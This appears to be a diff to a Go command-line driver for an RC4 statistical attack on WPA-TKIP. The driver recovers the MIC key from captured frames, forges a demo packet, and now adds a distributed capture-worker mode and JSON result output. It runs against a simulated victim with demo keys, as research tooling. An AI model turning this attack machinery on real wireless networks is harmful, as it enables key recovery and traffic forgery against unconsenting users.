@@ -26,17 +26,27 @@
 //
 //	tkipattack -online                          # geometric cadence 2^20, 2^21, ...
 //	tkipattack -online -decode-every 1048576    # decode every 2^20 frames
+//
+// Fleet-worker mode turns the driver into one capture node of a distributed
+// run coordinated by cmd/fleetd (every worker must load the same trained
+// model the coordinator uses):
+//
+//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -worker-id m1
 package main
 
 import (
+	"bytes"
+	"context"
 	"errors"
 	"flag"
 	"fmt"
 	"math/rand"
 	"os"
+	"os/signal"
 	"time"
 
 	"rc4break/internal/cliutil"
+	"rc4break/internal/fleet"
 	"rc4break/internal/netsim"
 	"rc4break/internal/online"
 	"rc4break/internal/packet"
@@ -62,6 +72,9 @@ func main() {
 	decodeEvery := flag.Uint64("decode-every", 0, "online: frames between decode attempts (0 = geometric cadence from -first-decode)")
 	firstDecode := flag.Uint64("first-decode", 1<<20, "online: frames at the first decode attempt")
 	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate walk depth per decode round (0 = -maxdepth)")
+	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
+	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
+	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
 	flag.Parse()
 
 	msduLen := packet.HeaderSize + 7
@@ -69,19 +82,18 @@ func main() {
 
 	model := loadOrTrainModel(*modelPath, positions[len(positions)-1], *keysPerTSC, *workers)
 
-	session := &tkip.Session{
-		TK:     [16]byte{0x10, 0x21, 0x32, 0x43, 0x54, 0x65, 0x76, 0x87, 0x98, 0xa9, 0xba, 0xcb, 0xdc, 0xed, 0xfe, 0x0f},
-		MICKey: [8]byte{0xc0, 0xff, 0xee, 0x15, 0x90, 0x0d, 0xf0, 0x0d},
-		TA:     [6]byte{0x00, 0x0c, 0x41, 0x82, 0xb2, 0x55},
-		DA:     [6]byte{0x00, 0x1e, 0x58, 0xaa, 0xbb, 0xcc},
-		SA:     [6]byte{0x00, 0x22, 0xfb, 0x11, 0x22, 0x33},
-	}
-	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
+	session := tkip.DemoSession()
+	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
 	attack, err := tkip.NewAttack(model, positions)
 	if err != nil {
 		fatal(err)
 	}
 	attack.Workers = *workers
+
+	if *fleetWorker != "" {
+		runFleetWorker(*fleetWorker, *workerID, model, positions, session, victim, *workers)
+		return
+	}
 
 	if *resume != "" {
 		resumed, err := tkip.ReadAttackSnapshotFile(*resume, model)
@@ -103,7 +115,7 @@ func main() {
 		}
 		runOnline(attack, session, victim, *mode, *seed, *copies,
 			online.Cadence{First: *firstDecode, Every: *decodeEvery},
-			depth, *checkpoint, *checkpointEvery)
+			depth, *checkpoint, *checkpointEvery, *jsonOut)
 		return
 	}
 
@@ -146,8 +158,9 @@ func main() {
 	default:
 		fatal(fmt.Errorf("unknown mode %q", *mode))
 	}
+	collectTime := time.Since(start)
 	fmt.Printf("      captured in %v (shard frames: %d; live air time at %d pps: %.1f h)\n",
-		time.Since(start).Round(time.Millisecond), attack.Frames, netsim.TKIPInjectionPerSecond,
+		collectTime.Round(time.Millisecond), attack.Frames, netsim.TKIPInjectionPerSecond,
 		float64(attack.Frames)/netsim.TKIPInjectionPerSecond/3600)
 
 	if *checkpoint != "" {
@@ -189,11 +202,27 @@ func main() {
 	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
 	start = time.Now()
 	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, *maxDepth)
+	recoverTime := time.Since(start)
+	result := cliutil.RunResult{
+		Attack:       "tkip",
+		Mode:         *mode,
+		Success:      err == nil,
+		Rank:         depth,
+		Observations: attack.Frames,
+		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
+		// RecoverTrailer interleaves decoding with the ICV oracle, so the
+		// offline path reports their combined time as decode.
+		DecodeMS:  float64(recoverTime.Microseconds()) / 1000,
+		ElapsedMS: float64((collectTime + recoverTime).Microseconds()) / 1000,
+	}
 	if err != nil {
+		result.Error = err.Error()
 		fmt.Printf("      attack failed: %v (try more copies or deeper search)\n", err)
+		emitJSON(*jsonOut, result)
 		os.Exit(1)
 	}
-	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, time.Since(start).Round(time.Millisecond))
+	result.Plaintext = fmt.Sprintf("%x", micKey[:])
+	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, recoverTime.Round(time.Millisecond))
 	fmt.Printf("      recovered MIC key: %x\n", micKey)
 	if micKey == session.MICKey {
 		fmt.Println("      MIC key matches the real key")
@@ -202,6 +231,7 @@ func main() {
 	}
 
 	forgeDemo(session, victim.MSDU, micKey, "[4/4]")
+	emitJSON(*jsonOut, result)
 }
 
 // forgeDemo demonstrates impact: a packet forged under the recovered MIC
@@ -224,7 +254,7 @@ func forgeDemo(session *tkip.Session, msdu []byte, micKey [8]byte, phase string)
 // trailer. Decode points are absolute frame counts, so a checkpointed run
 // killed and resumed continues on exactly the cadence an uninterrupted run
 // would use.
-func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVictim, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64) {
+func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVictim, mode string, seed int64, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
 	if budget <= attack.Frames {
 		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, attack.Frames))
 	}
@@ -301,6 +331,7 @@ func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVi
 	})
 	if err != nil {
 		fmt.Printf("      online attack failed: %v (budget %d frames; try a deeper walk or a larger budget)\n", err, budget)
+		emitJSON(jsonOut, cliutil.OnlineRunResult("tkip", mode, res, err))
 		os.Exit(1)
 	}
 	if checkpoint != "" {
@@ -320,6 +351,9 @@ func runOnline(attack *tkip.Attack, session *tkip.Session, victim *netsim.WiFiVi
 		fmt.Println("      MIC key matches the real key")
 	}
 	forgeDemo(session, victim.MSDU, oracle.MICKey, "[4/4]")
+	jres := cliutil.OnlineRunResult("tkip", mode, res, nil)
+	jres.Plaintext = fmt.Sprintf("%x", oracle.MICKey[:])
+	emitJSON(jsonOut, jres)
 }
 
 // loadOrTrainModel implements the train-once workflow: with -model set and
@@ -402,6 +436,86 @@ func collectExact(attack *tkip.Attack, victim *netsim.WiFiVictim, remaining uint
 		fatal(err)
 	}
 	fmt.Printf("      sniffer captured %d frames, dropped %d\n", sniffer.Captured, sniffer.Dropped)
+}
+
+// emitJSON writes the machine-readable result as the final stdout line
+// when -json is set.
+func emitJSON(enabled bool, r cliutil.RunResult) {
+	if err := r.Emit(enabled); err != nil {
+		fatal(err)
+	}
+}
+
+// runFleetWorker joins a cmd/fleetd coordinator and collects leased capture
+// lanes until the coordinator declares the run over. The worker's model
+// must be the coordinator's (fingerprint-checked at the door). Model-mode
+// lanes draw from the lane's derived seed; exact-mode lanes replay the
+// victim's TSC stream from the lane's absolute offset (an O(1) skip —
+// frames are independently keyed by TSC).
+func runFleetWorker(addr, id string, model *tkip.PerTSCModel, positions []int, session *tkip.Session, victim *netsim.WiFiVictim, workers int) {
+	fp, err := model.Fingerprint()
+	if err != nil {
+		fatal(err)
+	}
+	trailer := trueTrailer(session, victim.MSDU)
+	w := &fleet.Worker{
+		Addr:        addr,
+		ID:          id,
+		Attack:      "tkip",
+		Fingerprint: fp,
+		Logf:        cliutil.IndentLogf,
+		Collect: func(job fleet.JobSpec, lease fleet.Lease) ([]byte, error) {
+			a, err := collectTKIPLane(model, positions, session, trailer, job, lease, workers)
+			if err != nil {
+				return nil, err
+			}
+			var buf bytes.Buffer
+			if err := a.WriteSnapshot(&buf); err != nil {
+				return nil, err
+			}
+			return buf.Bytes(), nil
+		},
+	}
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer stop()
+	fmt.Printf("[2/2] fleet worker joining %s...\n", addr)
+	stats, err := w.Run(ctx)
+	fmt.Printf("      worker done: %d lanes (%d frames) uploaded, %d rejected as already covered\n",
+		stats.Lanes, stats.Records, stats.Rejected)
+	if stats.StopReason != "" {
+		fmt.Printf("      coordinator: %s\n", stats.StopReason)
+	}
+	if err != nil {
+		fatal(err)
+	}
+}
+
+// collectTKIPLane captures one leased lane into a fresh capture accumulator
+// stamped with the lane's stream identity.
+func collectTKIPLane(model *tkip.PerTSCModel, positions []int, session *tkip.Session, trailer []byte, job fleet.JobSpec, lease fleet.Lease, workers int) (*tkip.Attack, error) {
+	switch job.Mode {
+	case "model":
+		return tkip.CollectLane(model, positions, trailer, lease.Stream,
+			cliutil.LaneSeed(job.Seed, lease.Lane), lease.Records, workers)
+	case "exact":
+		a, err := tkip.NewAttack(model, positions)
+		if err != nil {
+			return nil, err
+		}
+		a.Workers = workers
+		a.Stream = lease.Stream
+		v := netsim.NewWiFiVictim(session, tkip.DemoPayload)
+		v.Skip(lease.Start) // frames are independently keyed by TSC: O(1)
+		sniffer := netsim.NewSniffer(v.FrameLen())
+		for i := uint64(0); i < lease.Records; i++ {
+			if f := v.Transmit(); sniffer.Filter(f) {
+				a.Observe(f)
+			}
+		}
+		return a, nil
+	default:
+		return nil, fmt.Errorf("unknown fleet mode %q", job.Mode)
+	}
 }
 
 // trueTrailer decrypts one encapsulation with the real key to obtain the
